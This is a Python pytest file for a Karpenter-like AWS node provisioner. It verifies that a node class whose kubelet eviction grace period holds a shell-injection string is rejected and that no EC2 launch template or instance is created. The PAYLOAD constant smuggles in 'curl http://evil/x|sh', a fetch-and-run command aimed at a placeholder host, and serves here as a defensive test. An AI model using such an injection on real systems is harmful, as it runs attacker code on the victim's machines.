"""`AWSCloudProvider.create` judges the EC2NodeClass before it touches AWS: a class whose
kubelet values an older CRD admitted (and that may still say Ready) is NodeClassNotReady,
and no launch template or instance is created for it."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from karpy.apis.ec2nodeclass import EC2NodeClass
from karpy.cloud.aws.nodeclasses import NODE_CLASS
from karpy.cloud.aws.provider import AWSCloudProvider
from karpy.cloud.errors import NodeClassNotReady
from karpy.cloud.unavailable import UnavailableOfferings
from karpy.settings import Settings
from karpy.state.cluster import ClusterState
from tests.aws.launch.conftest import nodeclaim, nodeclass

if TYPE_CHECKING:
    from karpy.cloud.aws.clients import AWSClients
    from karpy.sandbox.aws.seed import Account

PAYLOAD = "1m'; curl http://evil/x|sh; echo '"


def ready(nc: EC2NodeClass) -> EC2NodeClass:
    """``nc`` with a Ready condition for its current generation."""
    data: dict[str, Any] = nc.to_dict()
    data["status"]["conditions"] = [
        {
            "type": "Ready",
            "status": "True",
            "reason": "Ready",
            "message": "",
            "lastTransitionTime": "2026-01-01T00:00:00Z",
            "observedGeneration": nc.metadata.generation,
        }
    ]
    return EC2NodeClass.from_dict(data)


async def test_a_ready_class_with_an_injected_grace_period_launches_nothing(
    aws_account: Account, aws_clients: AWSClients
) -> None:
    kubelet = {
        "evictionSoft": {"memory.available": "500Mi"},
        "evictionSoftGracePeriod": {"memory.available": PAYLOAD},
    }
    state = ClusterState()
    state.apply(
        NODE_CLASS.kind,
        [("default", ready(nodeclass(aws_account, spec={"kubelet": kubelet})))],
        [],
    )
    provider = AWSCloudProvider(
        Settings(cluster_name=aws_account.cluster_name),
        aws_clients,
        client=None,  # type: ignore[arg-type]  # create() never reaches the API server
        state=state,
        unavailable=UnavailableOfferings(),
    )
    with pytest.raises(NodeClassNotReady, match=r"evictionSoftGracePeriod\.memory\.available"):
        await provider.create(nodeclaim("claim-1"))
    ec2 = await aws_clients.ec2()
    assert (await ec2.describe_launch_templates())["LaunchTemplates"] == []
    assert (await ec2.describe_instances())["Reservations"] == []
